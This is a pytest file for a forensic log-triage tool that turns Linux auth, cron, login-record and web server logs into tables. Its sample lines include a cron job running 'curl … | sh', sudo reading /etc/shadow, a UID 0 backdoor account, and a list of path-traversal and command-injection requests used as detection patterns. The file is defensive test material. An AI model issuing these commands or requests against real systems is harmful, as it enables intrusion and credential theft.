"""Logs of Linux: lines of the programs that hospitals run, in tables; years, packing, odd bytes."""

import gzip
import io
import locale
import os
import re
import struct
import time
from datetime import UTC, datetime

import locales
import pytest
from examinations import examine
from hypothesis import given, settings
from hypothesis import strategies as st

from collectors.live.utmp import RECORD
from evidence.triage import counting
from evidence.triage.held import stored
from evidence.triage.linuxlogs import examiner as examining
from evidence.triage.linuxlogs import lines as reading
from evidence.triage.linuxlogs.access import parse
from evidence.triage.linuxlogs.examiner import LinuxLogs
from evidence.triage.linuxlogs.messages import COLUMNS, MESSAGES, find
from evidence.triage.linuxlogs.narrowed import Narrowed
from evidence.triage.linuxlogs.stamp import Clock, Latest
from evidence.triage.patience import Patience

AUTH = "/var/log/auth.log"
OLD = b"May 19 16:00:00 srv1 "
NEW = b"2024-05-19T16:00:00.123456+09:00 srv1 "


@pytest.fixture
def looked(tmp_path):
    def look(files, changed=datetime(2024, 5, 20, tzinfo=UTC)):
        paths = {}
        for number, (origin, content) in enumerate(files.items()):
            paths[origin] = tmp_path / f"log-{number}"
            paths[origin].write_bytes(content)
            os.utime(paths[origin], (changed.timestamp(),) * 2)
        return examine(LinuxLogs(), tmp_path, paths)

    return look


@pytest.fixture
def japanese(tmp_path, monkeypatch):
    folder = tmp_path / "locales"
    folder.mkdir()
    with locales.japanese(folder, monkeypatch):
        assert locale.nl_langinfo(locale.MON_5) == "5月"
        yield


# A line, its table, and cells of its row.
ROWS = {
    "a key accepted": (
        b"sshd[812]: Accepted publickey for root from 192.0.2.7 port 50022 ssh2: ED25519 SHA256:x",
        "ssh_signins", {"what": "accepted", "method": "publickey", "user": "root",
                        "address": "192.0.2.7", "port": "50022"}),
    "a name with a blank": (
        b"sshd[812]: Accepted password for DOM\\taro sato from 192.0.2.7 port 50022 ssh2",
        "ssh_signins", {"what": "accepted", "user": "DOM\\taro sato", "address": "192.0.2.7"}),
    "a password refused": (
        b"sshd-session[812]: Failed password for taro from 2001:db8::7 port 50022 ssh2",
        "ssh_signins", {"what": "failed", "user": "taro", "address": "2001:db8::7"}),
    "a user that isn't": (
        b"sshd[812]: Failed password for invalid user admin from 192.0.2.7 port 1 ssh2",
        "ssh_signins", {"what": "failed", "user": "admin"}),
    "a user that isn't, named": (
        b"sshd[812]: Invalid user from 192.0.2.9 from 192.0.2.7 port 9",
        "ssh_signins", {"what": "unknown user", "user": "from 192.0.2.9", "address": "192.0.2.7"}),
    "a command as root": (
        b"sudo:  taro : TTY=pts/0 ; PWD=/home/taro ; USER=root ; COMMAND=/usr/bin/cat /etc/shadow",
        "sudo", {"what": "ran", "by": "taro", "user": "root", "folder": "/home/taro",
                 "command": "/usr/bin/cat /etc/shadow", "why": None}),
    "a command without a terminal": (
        b"sudo[22]: taro : PWD=/ ; USER=root ; COMMAND=/bin/sh",
        "sudo", {"what": "ran", "by": "taro", "user": "root", "folder": "/", "terminal": None,
                 "command": "/bin/sh", "why": None}),
    "a command refused without a terminal": (
        b"sudo[22]: taro : command not allowed ; PWD=/ ; USER=root ; COMMAND=/bin/sh",
        "sudo", {"what": "refused", "by": "taro", "why": "command not allowed", "terminal": None,
                 "command": "/bin/sh"}),
    "a command refused": (
        b"sudo: taro : user NOT in sudoers ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh",
        "sudo", {"what": "refused", "why": "user NOT in sudoers", "command": "/bin/sh"}),
    "a command in an odd folder": (
        b"sudo: taro : TTY=pts/0 ; PWD=/a;b ; USER=root ; GROUP=wheel ; COMMAND=/bin/sh -c a ; b",
        "sudo", {"what": "ran", "by": "taro", "terminal": "pts/0", "folder": "/a;b",
                 "user": "root", "command": "/bin/sh -c a ; b"}),
    "a command in an odd folder refused": (
        b"sudo: taro : 3 incorrect password attempts ; PWD=/a ; b ; USER=root ; COMMAND=/bin/sh",
        "sudo", {"what": "refused", "why": "3 incorrect password attempts", "folder": "/a ; b",
                 "command": "/bin/sh"}),
    "a command in another tree": (
        b"sudo: taro : TTY=pts/0 ; CHROOT=/x ; ; PWD=/ ; USER=root ; ENV=A=1;2 ; COMMAND=/bin/sh",
        "sudo", {"what": "ran", "chroot": "/x ;", "folder": "/", "command": "/bin/sh"}),
    "a command that goes on": (
        b"sudo: taro : (command continued) /srv/www --all",
        "sudo", {"what": "went on", "by": "taro", "command": "/srv/www --all"}),
    "a command in a form of its own": (
        b"sudo: taro of sales : on pts/0 ; COMMAND=/bin/sh",
        "sudo", {"what": "not understood", "by": None, "command": "/bin/sh"}),
    "a password refused again and again": (
        b"sshd[812]: message repeated 2 times: [ Failed password for x from 192.0.2.7 port 1 ssh2]",
        "ssh_signins", {"what": "failed", "user": "x", "address": "192.0.2.7", "port": "1",
                        "times": 2}),
    "root by su": (
        b"su[9]: (to root) taro on pts/1", "su", {"what": "became", "user": "root", "by": "taro"}),
    "root by su, of old": (
        b"su[9]: Successful su for root by taro", "su", {"user": "root", "by": "taro"}),
    "su refused": (
        b"su[9]: FAILED SU (to root) taro on pts/1",
        "su", {"what": "refused", "user": "root", "by": "taro"}),
    "a user made": (
        b"useradd[77]: new user: name=backup2, UID=0, GID=0, home=/root, shell=/bin/sh",
        "linux_accounts", {"what": "user made", "account": "backup2", "id": "0"}),
    "a group made": (
        b"groupadd[77]: new group: name=ops, GID=1001",
        "linux_accounts", {"what": "group made", "account": "ops", "id": "1001"}),
    "a member": (
        b"usermod[77]: add 'taro' to group 'sudo'",
        "linux_accounts", {"what": "member added", "member": "taro", "account": "sudo"}),
    "a member, by gpasswd": (
        b"gpasswd[77]: user taro added by root to group sudo",
        "linux_accounts", {"member": "taro", "account": "sudo", "by": "root"}),
    "a user removed": (
        b"userdel[77]: delete user 'taro'", "linux_accounts",
        {"what": "user removed", "account": "taro"}),
    "a password": (
        b"passwd[77]: pam_unix(passwd:chauthtok): password changed for root",
        "linux_accounts", {"what": "password changed", "account": "root"}),
    "a crontab": (
        b"crontab[5]: (taro) REPLACE (root)", "cron_changes",
        {"what": "changed", "by": "taro", "user": "root"}),
    "a crontab removed": (
        b"crontab[5]: (root) DELETE (taro)", "cron_changes", {"what": "removed", "user": "taro"}),
    "a job": (
        b"CRON[5]: (root) CMD (curl http://192.0.2.7/x | sh)", "cron_runs",
        {"user": "root", "command": "curl http://192.0.2.7/x | sh", "count": 1}),
}  # fmt: skip


@pytest.mark.parametrize("name", ROWS)
@pytest.mark.parametrize("head", [OLD, NEW], ids=["old form", "new form"])
def test_a_line_becomes_a_row(name, head, looked):
    line, table, cells = ROWS[name]
    found = looked({AUTH: b"\n" + head + line + b"\n"})
    (row,) = found.tables[table]

    assert found.said == []
    assert {key: row[key] for key in cells} == cells
    if "line" in row:
        assert (row["line"], row["host"], row["origin"]) == (2, "srv1", AUTH)


def test_every_message_has_its_line():
    said = {(found.message.table, found.message.what) for line, _, _ in ROWS.values()
            if (found := find(b"srv1 " + line))}  # fmt: skip

    assert said == {(message.table, message.what) for message in MESSAGES}
    assert set(COLUMNS) == {table for _, table, _ in ROWS.values()}


@pytest.mark.parametrize(
    "line",
    [
        b"su[9]: Accepted publickey for root from 192.0.2.7 port 50022 ssh2",
        b"sshd[812]: Disconnected from 192.0.2.7 port 50022",
        b"myapp: new user: name=x, UID=0",
        b"myapp: message repeated 2 times: [ Failed password for x from 192.0.2.7 port 1 ssh2]",
    ],
    ids=["another program's", "of another kind", "an application's", "an application's, quoted"],
)
def test_what_is_only_like_it_is_no_row(line, looked):
    assert looked({AUTH: OLD + line + b"\n"}).tables == {}


# When.


TIMES = {
    "this year": (b"May 19 12:00:00 ", (None, "2024-05-19T12:00:00", "file")),
    "last year": (b"Nov  3 01:02:03 ", (None, "2023-11-03T01:02:03", "file")),
    "a leap day": (b"Feb 29 00:00:00 ", (None, "2024-02-29T00:00:00", "file")),
    "no day": (b"Feb 30 00:00:00 ", (None, "02-30T00:00:00", None)),
    "no month": (b"Foo 19 00:00:00 ", (None, "00-19T00:00:00", None)),
    "with a zone": (b"2024-05-19T16:00:00+09:00 ", (
        "2024-05-19T07:00:00.000000Z", "2024-05-19T16:00:00+09:00", "line")),
    "in UTC": (b"2024-05-19T16:00:00.5Z ", (
        "2024-05-19T16:00:00.500000Z", "2024-05-19T16:00:00.5Z", "line")),
    "before all time": (b"0001-01-01T00:00:00+14:00 ", (None, "0001-01-01T00:00:00+14:00", None)),
    "a year behind the day": (b"May 19 2024 16:00:00 ", (None, "2024-05-19T16:00:00", "line")),
    "a year before the month": (b"2024 May  9 16:00:00.123: ", (
        None, "2024-05-09T16:00:00", "line")),
    "a year that has no such day": (b"Feb 29 2023 16:00:00 ", (None, "02-29T16:00:00", None)),
    "as it was sent": (b"<38>May 19 12:00:00 ", (None, "2024-05-19T12:00:00", "file")),
    "as it was sent, of late": (b"<38>1 2024-05-19T07:00:00Z ", (
        "2024-05-19T07:00:00.000000Z", "2024-05-19T07:00:00Z", "line")),
    "a month in Japanese": (" 5月 19 12:00:00 ".encode(), (None, "2024-05-19T12:00:00", "file")),
    "a month in EUC-JP": ("11月  3 01:02:03 ".encode("euc-jp"), (
        None, "2023-11-03T01:02:03", "file")),
    "a month in Shift JIS": ("5月 19 12:00:00 ".encode("cp932"), (
        None, "2024-05-19T12:00:00", "file")),
    "no such month": ("13月 19 12:00:00 ".encode(), (None, "13-19T12:00:00", None)),
    "without a zone": (b"2024-05-19T16:00:00 ", (None, "2024-05-19T16:00:00", "line")),
    "without a zone or a T": (b"2024-05-19 16:00:00,5 ", (
        None, "2024-05-19T16:00:00.500000", "line")),
    "with a zone and no colon": (b"2024-05-19T16:00:00+0900 ", (
        "2024-05-19T07:00:00.000000Z", "2024-05-19T16:00:00+0900", "line")),
    "none": (b"19.05.2024 16:00 ", (None, None, None)),
}  # fmt: skip


@pytest.mark.parametrize("name", TIMES)
def test_a_time_is_told_as_far_as_the_line_tells_it(name):
    line, told = TIMES[name]
    stamp, rest = Clock(Latest(datetime(2024, 5, 20, tzinfo=UTC))).read(line + b"srv1 x")

    assert (stamp.at, stamp.local, stamp.year) == told
    assert rest == (b"srv1 x" if told[1] else line + b"srv1 x")


def test_without_a_change_of_the_file_there_is_no_year():
    stamp, _ = Clock(Latest(None)).read(b"May 19 12:00:00 x")

    assert (stamp.at, stamp.local, stamp.year) == (None, "05-19T12:00:00", None)


def test_a_log_over_the_turn_of_a_year_has_two(looked):
    lines = [
        b"Dec 31 23:59:59 srv1 su: (to root) a on x",
        b"Jan  1 00:00:01 srv1 su: (to root) b on x",
    ]
    found = looked({AUTH: b"\n".join(lines)}, changed=datetime(2025, 1, 1, 8, tzinfo=UTC))

    assert [row["local"] for row in found.tables["su"]] == [
        "2024-12-31T23:59:59", "2025-01-01T00:00:01",
    ]  # fmt: skip


# Counted, not judged.


def test_a_thousand_failures_are_a_count_without_a_verdict(looked):
    line = OLD + b"sshd[1]: Failed password for root from 192.0.2.7 port 1 ssh2\n"
    found = looked({AUTH: line * 1000, "/var/log/auth.log.1": line})

    assert found.said == []
    assert found.tables["ssh_counts"] == [{
        "result": "failed", "user": "root", "address": "192.0.2.7", "log": "text", "count": 1001,
        "first": None, "last": None,
        "first_local": "2024-05-19T16:00:00", "last_local": "2024-05-19T16:00:00",
    }]  # fmt: skip


FAILED = b"sshd[1]: Failed password for root from 192.0.2.7 port 1 ssh2\n"


@pytest.mark.parametrize(
    "again",
    [
        b"sshd[1]: message repeated 4 times: [ %b]\n" % FAILED[9:-1],
        b"last message repeated 4 times\n",
        b"sshd[1]: Failed password for root from 192.0.2.7 port 1 ssh2\n" * 1
        + OLD
        + b"last message repeated 3 times\n",
    ],
    ids=["quoted", "the one before", "the one before, twice"],
)
def test_what_came_again_and_again_is_counted_so_often(again, looked):
    found = looked({AUTH: OLD + FAILED + OLD + again})

    assert found.said == []
    assert [row["count"] for row in found.tables["ssh_counts"]] == [5]
    assert sum(row["times"] for row in found.tables["ssh_signins"]) == 5


def test_only_the_line_just_before_came_again(looked):
    lines = OLD + FAILED + OLD + b"myapp: hello\n" + OLD + b"last message repeated 4 times\n"

    assert looked({AUTH: lines}).tables["ssh_counts"][0]["count"] == 1


def test_times_of_the_hosts_own_stand_beside_those_in_utc(looked):
    old = looked({AUTH: OLD + FAILED, "/var/log/auth.log.1": NEW + FAILED})
    (row,) = old.tables["ssh_counts"]

    assert (row["count"], row["first"], row["last"]) == (2, *["2024-05-19T07:00:00.123456Z"] * 2)
    assert (row["first_local"], row["last_local"]) == ("2024-05-19T16:00:00",) * 2


def test_a_time_without_a_year_is_neither_first_nor_last_and_that_is_told(looked):
    found = looked({AUTH: b"Feb 30 00:00:00 srv1 " + FAILED + OLD + FAILED})
    (row,) = found.tables["ssh_counts"]

    assert (row["count"], row["first_local"]) == (2, "2024-05-19T16:00:00")
    assert found.unread == ["1 lines tell no time that can be read, or not its year"]


# In which form.


FORMS = {
    "as it was sent": b"<38>May 19 16:00:00 srv1 %b",
    "in the form of RFC 5424": b"<38>1 2024-05-19T16:00:00+09:00 srv1 sshd 1 - - %b",
    "with data": b'<38>1 2024-05-19T16:00:00Z srv1 sshd 1 ID7 [a@1 b="]\\""][c] \xef\xbb\xbf%b',
    "without a zone": b"2024-05-19T16:00:00 srv1 %b",
    "with a year": b"May 19 2024 16:00:00 srv1 %b",
    "in Japanese": " 5月 19 16:00:00 srv1 ".encode() + b"%b",
    "with its kind": b"May 19 16:00:00 srv1 auth.info %b",
    "behind what a crash left": bytes(4000) + OLD + b"%b",
}


@pytest.mark.parametrize("name", FORMS)
def test_a_line_is_read_in_the_forms_that_there_are(name, looked):
    form = FORMS[name]
    line = FAILED[9:] if b"sshd" in form else FAILED
    found = looked({AUTH: form % line})
    (row,) = found.tables["ssh_signins"]

    assert found.said == []
    assert (row["host"], row["user"], row["local"][:16]) == ("srv1", "root", "2024-05-19T16:00")


@pytest.mark.parametrize(
    "line",
    [b"19.05.2024 16:00:00 srv1 " + FAILED, b'{"time": 1, "message": "Failed password"}\n',
     b"May 19 16:00:00 " + FAILED, b"1716102000 srv1 " + FAILED],
    ids=["another time", "JSON", "no host", "seconds"],
)  # fmt: skip
def test_lines_of_a_log_of_sign_ins_in_another_form_are_counted_and_told(line, looked):
    found = looked({AUTH: line + b"\n" + line + OLD + FAILED})

    assert found.unread == ["2 lines are in another form, and were not read"]
    assert len(found.tables["ssh_signins"]) == 1


# Records of logins.


def login(kind=7, user=b"taro", host=b"192.0.2.7", address=bytes([192, 0, 2, 7])):
    return RECORD.pack(kind, 77, b"pts/0", b"ts/0", user, host, 0, 0, 1, 1716102000, 5, address)


def test_login_records_become_rows(looked):
    found = looked({"/var/log/wtmp": login() + login(kind=0) + login(kind=2, user=b"reboot")})

    assert found.said == []
    assert [(row["record"], row["type"], row["user"]) for row in found.tables["login_records"]] == [
        (1, "user", "taro"), (2, "empty", "taro"), (3, "boot", "reboot"),
    ]  # fmt: skip
    row = found.tables["login_records"][0]
    assert (row["time"], row["address"], row["host"]) == (
        "2024-05-19T07:00:00.000005Z", "192.0.2.7", "192.0.2.7",
    )  # fmt: skip


def test_rows_beyond_those_that_are_counted_are_told(looked, monkeypatch):
    monkeypatch.setattr(counting, "MOST", 2)
    runs = b"".join(OLD + b"CRON[1]: (root) CMD (%d)\n" % (number % 4) for number in range(9))
    found = looked({"/var/log/cron": runs})

    assert [row["count"] for row in found.tables["cron_runs"]] == [3, 2]
    assert found.unread == ["cron_runs: 4 more are not counted"]


def test_records_of_zeros_alone_are_counted(looked):
    found = looked({"/var/log/wtmp": login() + bytes(3 * RECORD.size) + login(user=b"hana")})

    assert [row["record"] for row in found.tables["login_records"]] == [1, 5]
    assert found.unread == ["3 records are zeros alone: erased, or never written to the disk"]


def of(*days):
    return b"".join(b"%b 12:00:00 srv1 su: (to root) taro on pts/1\n" % day for day in days)


OVER_YEARS = {
    "three years in one file": (
        (b"May  3", b"Dec 30", b"Jan  2", b"Sep  9", b"Feb 28", b"May 19"),
        ["2022-05-03", "2022-12-30", "2023-01-02", "2023-09-09", "2024-02-28", "2024-05-19"],
    ),
    "a clock that was set after each boot": (
        (b"Apr  3", b"Jan  1", b"Apr  4", b"Jan  1", b"Apr  5"),
        ["2024-04-03", "2024-01-01", "2024-04-04", "2024-01-01", "2024-04-05"],
    ),
    "a clock that was set, in a later year": (
        (b"Nov 10", b"Feb  1", b"Feb  9", b"Nov 12", b"Jan  1", b"Nov 13"),
        ["2022-11-10", "2023-02-01", "2023-02-09", "2023-11-12", "2024-01-01", "2023-11-13"],
    ),
    "lines out of order around New Year": (
        (b"Dec 31", b"Jan  1", b"Dec 31", b"Jan  1"),
        ["2023-12-31", "2024-01-01", "2023-12-31", "2024-01-01"],
    ),
    "one that ends in another year": (
        (b"Dec 30", b"Jan  2", b"Dec 29"), ["2022-12-30", "2023-01-02", "2023-12-29"],
    ),
}  # fmt: skip


@pytest.mark.parametrize("what", OVER_YEARS)
def test_the_year_of_a_line_goes_by_how_often_it_turns_behind_it(what, looked):
    days, expected = OVER_YEARS[what]
    found = looked({AUTH: of(*days)})

    assert [row["local"] for row in found.tables["su"]] == [f"{day}T12:00:00" for day in expected]
    assert {row["year"] for row in found.tables["su"]} == {"file"}


def test_a_record_that_was_cut_off_is_told(looked):
    found = looked({"/var/log/btmp.1": login() + login()[:100]})

    assert len(found.tables["login_records"]) == 1
    assert found.unread == ["100 bytes at the end are no whole record"]


# Web servers.


def request(asked=b"GET / HTTP/1.1", status=200, agent=b"Mozilla/5.0"):
    return (b'192.0.2.7 - - [19/May/2024:16:00:00 +0900] "%b" %d 512 "-" "%b"\n'
            % (asked, status, agent))  # fmt: skip


ASKED = {
    b"GET /cgi-bin/../../etc/passwd HTTP/1.1": "path out of the tree",
    b"GET /a/%2e%2e%2f%2e%2e%2fx HTTP/1.1": "path out of the tree",
    b"GET /.%2e/.%2e/etc/passwd HTTP/1.1": "path out of the tree",
    b"GET /%2e./%2E./etc/passwd HTTP/1.1": "path out of the tree",
    b"GET /a/.%252e%255c%252e. HTTP/1.1": "path out of the tree",
    b"GET /a/%25252e%25252e%25252fx HTTP/1.1": "path out of the tree",
    b"GET /a/..%c0%afx HTTP/1.1": "path out of the tree",
    b"GET /a/%c0%ae%c0%ae/x HTTP/1.1": "path out of the tree",
    b"GET /a/..;/manager HTTP/1.1": "path out of the tree",
    b"GET /x.aspx?q=whoami HTTP/1.1": "command in a query",
    b"GET /x.jsp?c=cmd+/c+dir HTTP/1.1": "command in a query",
    b"GET /x.php?a=eval(b) HTTP/1.1": "code in a query",
    b"POST /wp/uploads/2024/a.php HTTP/1.1": "script where files are uploaded",
    b"GET /remote/fgt_lang?lang=x HTTP/1.1": "VPN appliance: Fortinet",
    b"GET /dana/html5acc/x HTTP/1.1": "VPN appliance: Pulse, Ivanti",
    b"GET /vpn/portal/x HTTP/1.1": "VPN appliance: Citrix",
    b"GET /tmui/login.jsp HTTP/1.1": "appliance: F5",
    b"POST /ssl-vpn/hipreport.esp HTTP/1.1": "appliance: Palo Alto",
}
ORDINARY = [
    b"GET / HTTP/1.1", b"GET /uploads/2024/photo.jpg HTTP/1.1", b"GET /uploads/a.php HTTP/1.1",
    b"POST /login.php HTTP/1.1", b"GET /search?q=evaluation+of+care HTTP/1.1", b"-",
    b"GET /remotecontrol/ HTTP/1.1", b"GET /a...b HTTP/1.1", b"GET /a%2e/b HTTP/1.1",
    b"GET /?q=whoamiami HTTP/1.1",
]  # fmt: skip


@pytest.mark.parametrize("asked", ASKED, ids=lambda asked: asked.decode())
def test_a_request_for_what_nobody_should_ask_is_a_row(asked, looked):
    found = looked({"/var/log/nginx/access.log": request() + request(asked, 404)})
    (row,) = found.tables["web_requests"]

    assert found.said == []
    assert (row["asked"], row["request"], row["status"], row["line"]) == (
        ASKED[asked], asked.decode(), 404, 2,
    )  # fmt: skip
    assert row["time"] == "2024-05-19T07:00:00.000000Z"


def test_ordinary_requests_are_counted_only(looked):
    log = b"".join(map(request, ORDINARY))
    found = looked({"/var/log/httpd/ssl_access_log-20240519": log})

    assert found.said == []
    assert set(found.tables) == {"web_clients", "web_logs"}
    assert [row["count"] for row in found.tables["web_clients"]] == [len(ORDINARY)]


@pytest.mark.parametrize("before", [b"", b"www.example.jp:443 "], ids=["plain", "virtual host"])
@pytest.mark.parametrize("address", [b"192.0.2.7", b"2001:db8::7"], ids=["IPv4", "IPv6"])
def test_who_asked_is_found_beside_the_virtual_host(before, address):
    line = before + request().replace(b"192.0.2.7", address)

    assert parse(line).address == address.decode()


W3C = b"""#Software: Microsoft Internet Information Services 10.0\r
#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query c-ip cs(User-Agent) sc-status\r
2024-05-19 07:00:00 10.0.0.1 GET / - 192.0.2.7 Mozilla/5.0+(x) 200\r
2024-05-19 07:00:01 10.0.0.1 POST /karte/uploads/a.aspx q=1 192.0.2.7 Mozilla/5.0+(x) 404\r
#Fields: date time c-ip cs-username cs-method cs-uri-stem sc-status sc-bytes\r
2024-05-19 07:00:02 2001:db8::7 taro GET /remote/fgt_lang 200 17\r
2024-05-19 07:00:03 one field too few\r
"""


def test_a_log_of_iis_is_read_by_the_fields_that_it_names(looked):
    found = looked({"/C/inetpub/logs/LogFiles/W3SVC1/u_ex240519.log": W3C})
    told = [
        (row["time"][:19], row["address"], row["user"], row["asked"], row["request"], row["status"],
         row["size"], row["agent"], row["line"])
        for row in found.tables["web_requests"]
    ]  # fmt: skip

    assert told == [
        ("2024-05-19T07:00:01", "192.0.2.7", "-", "script where files are uploaded",
         "POST /karte/uploads/a.aspx?q=1", 404, None, "Mozilla/5.0+(x)", 4),
        ("2024-05-19T07:00:02", "2001:db8::7", "taro", "VPN appliance: Fortinet",
         "GET /remote/fgt_lang", 200, "17", None, 6),
    ]  # fmt: skip
    assert [row["count"] for row in found.tables["web_clients"]] == [1, 1, 1]
    assert found.unread == ["1 lines are in another form, and were not read"]


def test_lines_in_another_form_are_counted_and_told(looked):
    log = request() + b"<164>%ASA-4-106023: Deny tcp\n" * 3
    found = looked({"/var/log/apache2/access.log": log})

    assert found.unread == ["3 lines are in another form, and were not read"]
    assert found.tables["web_clients"][0]["count"] == 1


@pytest.mark.parametrize(
    "at",
    [b"19/Mai/2024:16:00:00 +0900", b"31/Feb/2024:16:00:00 +0900", b"01/Jan/0001:00:00:00 +1400",
     b"19/May/2024:16:00:00 +9999"],
    ids=["another language", "no day", "before all time", "no zone"],
)  # fmt: skip
def test_a_request_whose_time_cannot_be_read_is_counted_and_told(at, looked):
    found = looked({"/var/log/nginx/access.log": re.sub(rb"19/May[^]]*", at, request())})

    assert found.tables["web_clients"][0]["count"] == 1
    assert found.unread == ["1 lines tell no time that can be read, or not its year"]


def test_times_are_read_in_a_japanese_locale(looked, japanese):
    errors = b"[Sun May 19 16:00:00 2024] [error] [client 192.0.2.7] script not found: /a.cgi\n"
    found = looked({"/var/log/nginx/access.log": request(), "/var/log/httpd/error_log": errors})

    assert found.said == []
    assert found.tables["web_clients"][0]["first"] == "2024-05-19T07:00:00.000000Z"
    assert found.tables["web_errors"][0]["first_local"] == "2024-05-19T16:00:00"


APACHE = b"[Sun May 19 16:00:00.123456 2024] "
ERRORS = {
    "Apache, a file that isn't": (
        APACHE + b"[core:error] [pid 7:tid 8] [client 192.0.2.7:50022] AH00128: File does not "
        b"exist: /srv/www/a.php, referer: http://x/",
        ("error", "192.0.2.7", "AH00128: File does not exist: …")),
    "Apache, IPv6": (
        APACHE + b"[authz_core:error] [pid 7] [client 2001:db8::7:50022] AH01630: client denied by "
        b"server configuration: /srv/www/a",
        ("error", "2001:db8::7", "AH01630: client denied by server configuration: …")),
    "Apache, of old": (
        b"[Sun May 19 16:00:00 2024] [error] [client 2001:db8::7] script not found: /srv/a.cgi",
        ("error", "2001:db8::7", "script not found: …")),
    "Apache, itself": (
        APACHE + b"[mpm_event:notice] [pid 7] AH00489: configured -- resuming normal operations",
        ("notice", None, "AH00489: configured -- resuming normal operations")),
    "nginx": (
        b'2024/05/19 16:00:00 [error] 7#8: *5 open() "/srv/www/a" failed (2: No such file or '
        b'directory), client: 192.0.2.7, server: _, request: "GET /a HTTP/1.1", host: "x"',
        ("error", "192.0.2.7", "open() … failed (2: No such file or directory)")),
    "nginx, itself": (
        b"2024/05/19 16:00:00 [emerg] 7#8: bind() to 0.0.0.0:80 failed (98: in use)",
        ("emerg", None, "bind() to 0.0.0.0:80 failed (98: in use)")),
}  # fmt: skip


@pytest.mark.parametrize("name", ERRORS)
@pytest.mark.parametrize("origin", ["/var/log/httpd/error_log", "/C/Apache24/logs/site1.log"])
def test_a_log_of_errors_is_told_as_that_and_counted(name, origin, looked):
    line, told = ERRORS[name]
    found = looked({origin: line + b"\n  of the program behind it\n" + line + b"\n"})
    (row,) = found.tables["web_errors"]

    assert found.said == []
    assert (row["level"], row["address"], row["said"]) == told
    assert (row["count"], row["first"], row["last"], row["origin"]) == (2, None, None, origin)
    assert row["first_local"] == row["last_local"] == "2024-05-19T16:00:00"
    assert found.tables["web_logs"] == [
        {"kind": "errors", "lines": 3, "read": 2, "origin": origin, "item": None}
    ]


def test_requests_among_errors_are_told(looked):
    errors = next(iter(ERRORS.values()))[0] + b"\n"
    found = looked({"/var/log/httpd/all.log": errors + request() * 2})

    assert found.unread == ["2 lines are in another form, and were not read"]


@pytest.mark.parametrize("head", [
    b"2024/05/19 16:00:00 [error] 7#8: *5 open() failed, client: 192.0.2.7, request: \"",
    APACHE + b"[core:error] [pid 7] [client 192.0.2.7:5] AH00126: Invalid URI in request ",
], ids=["nginx", "Apache"])  # fmt: skip
def test_a_request_for_what_nobody_should_ask_is_found_in_a_log_of_errors(head, looked):
    line = head + b'GET /cgi-bin/.%2e/%2e%2e/bin/sh HTTP/1.1", host: "x"\n'
    found = looked({"/var/log/nginx/error.log": line, "/var/log/nginx/access.log": request()})
    (row,) = found.tables["web_requests"]

    assert (row["asked"], row["address"], row["time"], row["local"][:19], row["line"]) == (
        "path out of the tree", "192.0.2.7", None, "2024-05-19T16:00:00", 1,
    )  # fmt: skip


@pytest.mark.parametrize(
    ("content", "kind"),
    [(b"unpacking nginx 1.22.1\nsetting it up\n", "other"), (bytes(range(256)) * 9, "other"),
     (b"", "empty"), (b"\r\n", "empty")],
    ids=["an installation", "binary", "nothing", "blank"],
)  # fmt: skip
def test_other_logs_of_a_web_server_are_told_as_that_and_not_as_unread(content, kind, looked):
    found = looked({"/opt/Apache/install.log": content})

    assert found.said == []
    assert dict(found.tables) == {"web_logs": [
        {"kind": kind, "lines": None, "read": 0, "origin": "/opt/Apache/install.log", "item": None}
    ]}  # fmt: skip


@pytest.mark.parametrize(
    ("origin", "line"),
    [
        ("/var/log/nginx/site1.log", b'{"time": 1, "request": "GET / HTTP/1.1", "status": 200}'),
        ("/var/log/nginx/site1.log", b"1716102000.000 12 192.0.2.7 GET / HTTP/1.1 200"),
        ("/srv/access.log", b"1716102000.000 12 192.0.2.7 TCP_MISS/200 512 http://x/"),
    ],
    ids=["JSON", "a form of its own", "by its name"],
)
def test_a_log_of_requests_in_another_form_was_not_read(origin, line, looked):
    found = looked({origin: line + b"\n" + line})

    assert found.unread == ["2 lines are in another form, and were not read"]
    assert [(row["kind"], row["lines"], row["read"]) for row in found.tables["web_logs"]] == [
        ("requests", 2, 0)
    ]


def test_a_log_of_requests_is_known_behind_odd_lines(looked):
    found = looked({"/var/log/nginx/karte.log": b"begun\n" * 9 + request()})

    assert found.tables["web_clients"][0]["count"] == 1
    assert found.unread == ["9 lines are in another form, and were not read"]


def test_a_packed_log_of_requests_is_read_to_where_it_was_cut_off(looked):
    packed = gzip.compress(request() * 3 + os.urandom(3000).hex().encode())[:-900]
    found = looked({"/var/log/nginx/site1.log.2.gz": packed})

    assert found.tables["web_clients"][0]["count"] == 3
    assert any(why.startswith("can't be unpacked to its end: ") for why in found.unread)


def test_a_log_that_cannot_be_unpacked_is_not_called_empty(looked):
    found = looked({"/var/log/nginx/site1.log.2.xz": b"\xfd7zXZ\0" + bytes(50)})

    (why,) = found.unread
    assert why.startswith("can't be unpacked to its end: ")
    assert found.tables == {}


# Packed, cut, odd.


def test_a_packed_log_is_read(looked):
    line = OLD + b"su: (to root) taro on pts/1\n"
    found = looked({"/var/log/auth.log.2.gz": gzip.compress(line)})

    assert [row["by"] for row in found.tables["su"]] == ["taro"]
    assert found.said == []


def test_a_packed_log_that_was_cut_off_is_read_to_the_cut(looked):
    noise = os.urandom(3000).hex().encode()
    line = OLD + b"su: (to root) taro on pts/1\n"
    found = looked({"/var/log/secure-20240519.gz": gzip.compress(line + noise)[:-900]})

    assert len(found.tables["su"]) == 1
    (why,) = found.unread
    assert why.startswith("can't be unpacked to its end: ")


@pytest.mark.parametrize("pack", [bytes, gzip.compress], ids=["plain", "packed"])
@pytest.mark.parametrize(
    ("before", "end"), [(b"\xef\xbb\xbf", b"\n"), (b"", b"\r"), (b"\xef\xbb\xbf", b"\r")],
    ids=["mark", "returns", "both"],
)  # fmt: skip
def test_a_log_that_another_system_wrote_over_is_read(before, end, pack, looked):
    lines = [OLD + b"su: (to root) u%03d on pts/1" % number + end for number in range(600)]
    found = looked({f"{AUTH}.1.gz": pack(before + b"".join(lines))})

    assert [(row["by"], row["line"]) for row in found.tables["su"]] == [
        (f"u{number:03}", number + 1) for number in range(600)
    ]
    assert found.unread == []


def test_a_mark_before_the_first_line_hides_no_turn_of_the_year(looked):
    days = (b"Dec 31", b"Jan  1", b"Dec 30", b"Jan  2")
    lines = [day + b" 16:00:00 srv1 su: (to root) taro on pts/1\n" for day in days]
    times = [
        [row["local"][:10] for row in looked({AUTH: mark + b"".join(lines)}).tables["su"]]
        for mark in (b"", b"\xef\xbb\xbf")
    ]

    assert times[0] == times[1] == ["2022-12-31", "2023-01-01", "2023-12-30", "2024-01-02"]


